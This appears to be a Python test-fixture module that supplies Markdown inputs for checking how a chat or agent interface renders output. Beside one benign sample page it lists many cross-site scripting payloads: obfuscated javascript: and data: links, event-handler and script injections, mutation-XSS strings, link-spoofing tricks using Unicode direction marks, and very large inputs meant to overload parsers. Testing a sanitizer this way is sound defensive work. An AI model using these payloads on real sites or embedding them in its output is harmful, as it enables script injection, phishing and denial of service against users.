"""Markdown that an agent may say: what every page should show well, and what is meant to break it."""

import base64
import random

DOCUMENT = """\
# How to read a file

An intro with **bold**, *italic*, `code`, ~~no~~ and [a link](https://docs.example/a "Title").
A second line.

## Steps

1. Open it
   - as text
   - as bytes
2. Close it

- [x] written
- [ ] read

> A quote with `code`

```python
async def main(name: str) -> None:
    print(f"Hello {name}", 42)  # a comment that is long enough to be wider than a phone, and a desk
```

| Language | Year | Typed | A column that needs some room | Another one | And a last one |
|:--|--:|:-:|---|---|---|
| Python | 1991 | optional | words, words, words, and more words | x | y |
| Rust | 2015 | yes | words | x | y |

![A picture](https://pictures.example/a.png) https://auto.example/link

---

```json
{"a": [1, true, null], "b": "text"}
```

The end.
"""

_PAYLOAD = "<img src=x onerror=pwned=1>"
_DATA = base64.b64encode(b"<script>pwned=1</script>").decode()
_LONG = 100_000
_RANDOM = random.Random(7)


def _repeat(text: str, length: int = _LONG) -> str:
    return text * (length // len(text))


def _fence(language: str, code: str = "x") -> str:
    return f"```{language}\n{code}\n```\n"


ADDRESSES = [
    "[x](javascript:pwned=1)",
    "[x](JaVaScRiPt:pwned=1)",
    "[x](java\tscript:pwned=1) [x](<java\tscript:pwned=1>)",
    "[x](&#x6A;avascript&colon;pwned=1)",
    "[x](javascript&#58;pwned=1) [x](javascript&Tab;:pwned=1)",
    "[x](<javascript:pwned=1>)",
    "[x](\u0001javascript:pwned=1) [x](\u00a0javascript:pwned=1)",
    "[x](\\javascript:pwned=1) [x](java\\script:pwned=1)",
    "[x](javascript://evil.test/%0Apwned=1)",
    f"[x](data:text/html;base64,{_DATA}) ![x](data:image/svg+xml;base64,{_DATA})",
    "[x](vbscript:pwned=1) [x](view-source:javascript:pwned=1) [x](blob:https://evil.test/1)",
    "<javascript:pwned=1> <data:text/html,x> <JAVASCRIPT:pwned=1>",
    "[x]\n\n[x]: javascript:pwned=1\n[__proto__]: javascript:pwned=1 'toString'\n\n[__proto__]",
    "[constructor][constructor] [toString] [valueOf][hasOwnProperty]",
    "![x](javascript:pwned=1) ![x](https://evil.test/x.png 'onload=pwned=1')",
    "[![x](//evil.test/i.png)](javascript:pwned=1) [![x](https://evil.test/i.png)](https://a.test)",
    '[x](https://evil.test/"onclick="pwned=1) [x](https://evil.test "\\" onmouseover=pwned=1")',
    "[x](https:javascript:pwned=1) [x](//evil.test) [x](/conversations) [x](?a#b) [x]()",
    "[https://bank.example](https://evil.test) [x](https://bank.example@evil.test/)",
    "[a\u202eb\u2066c\u200b](https://evil.test/\u202egpj.exe) \u202ehttps://evil.test\u202c",
    "[[x](https://evil.test)](javascript:pwned=1) [x](https://evil.test/[y](javascript:pwned=1))",
    "https://evil.test/<script>pwned=1</script> http://javascript:pwned=1 mailto:x@y?z=<script>",
]
HTML = [
    _PAYLOAD,
    "<script>pwned=1</script>\n\n<script src=//evil.test/x.js></script>",
    "<svg><script>pwned=1</script><use href='data:image/svg+xml,<svg onload=pwned=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<style>@import '//evil.test/x.css'; * { display: none }</style>",
    "<!-- --><![CDATA[<script>pwned=1</script>]]><?php pwned ?><!doctype x>",
    f"# {_PAYLOAD}\n\n- {_PAYLOAD}\n\n> {_PAYLOAD}\n\n|{_PAYLOAD}|\n|-|\n|{_PAYLOAD}|\n\n`{_PAYLOAD}`",
    f"[{_PAYLOAD}](https://evil.test) ![{_PAYLOAD}](https://evil.test) **{_PAYLOAD}**",
    "<a href=javascript:pwned=1 target=_self>x</a><form action=//evil.test><button>x</button></form>",
    "<div class='problem hidden' id=transcript style='position:fixed;inset:0'>x</div>{.hidden #key}",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><base href=//evil.test>",
]
CODE = [
    "".join(map(_fence, ("__proto__", "constructor", "toString", "hasOwnProperty"))),
    _fence('"><img/src=x/onerror=pwned=1>', _PAYLOAD) + f"~~~{_PAYLOAD}\nx\n~~~",
    _fence("l" * _LONG),
    "".join(map(_fence, ("hidden confirm", "../../../vendor/highlight", "js.\u202e"))),
    _fence("html", f"{_PAYLOAD}\n<script>pwned=1</script>\n<!--"),
    _fence("json", _repeat("{")),
    _fence("js", _repeat("`${", 40_000)),
    _fence("python", _repeat("(a,", 40_000)) + _fence("cpp", _repeat("a<b<", 40_000)),
    _fence("xml", _repeat("<a b=", 40_000)) + _fence("css", _repeat("a:b{", 40_000)),
    _fence("md", _repeat("[a](", 20_000) + _repeat("**a", 20_000)),
    _fence("sql", _repeat("'", 40_000)) + "```sql\n" + _repeat("'a", 40_000),
    _fence("", _repeat("a line of text\n", 400_000)),
    f"````\n```\n{_PAYLOAD}\n````\n" + _repeat("```\n", 20_000),
]
_CHARACTERS = "[]()*_`~>#-+|!<&\\ \n\"'a1.:/"
PATHOLOGICAL = [
    *map(_repeat, ("[", "]", "*", "_", ">", "~", "`", "<", "&", "\\", "(", "|", "!", "\t", " ")),
    *map(_repeat, ("*a ", "a**b", "[a](", "![", "**a *", "> \n", "- \n", "a@", "| ", "\n[", "'\"")),
    *map(_repeat, ("http://a", "&#x", "<!--", "[a]: b\n", "\r", "\u202e", "e\u0301", "\u200d")),
    _repeat("\U0001f468\u200d") + _repeat("\0\ufeff"),
    "".join("`" * (each + 1) + " " for each in range(400)),
    "".join("  " * each + "- a\n" for each in range(400)),
    _repeat("*a **b ", 50_000) + _repeat("c** d*", 50_000),
    _repeat("a|", 4000) + "\n" + _repeat("-|", 4000) + "\n" + _repeat("|b|\n", 4000),
    "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|b" * 100 + "|\n") * 100,
    "|a|b|\n|-|-|\n" + _repeat("|c\n", 30_000),
    "[a]: /b\n" * 5000 + "[a] " * 5000,
    "".join(_RANDOM.choice(_CHARACTERS) for _ in range(_LONG)),
    _repeat("# a\n\n> b\n\n- c\n\n**d** `e` [f](https://g.test)\n\n```js\nh\n```\n\n", 60_000),
]
HOSTILE = [*ADDRESSES, *HTML, *CODE, *PATHOLOGICAL]
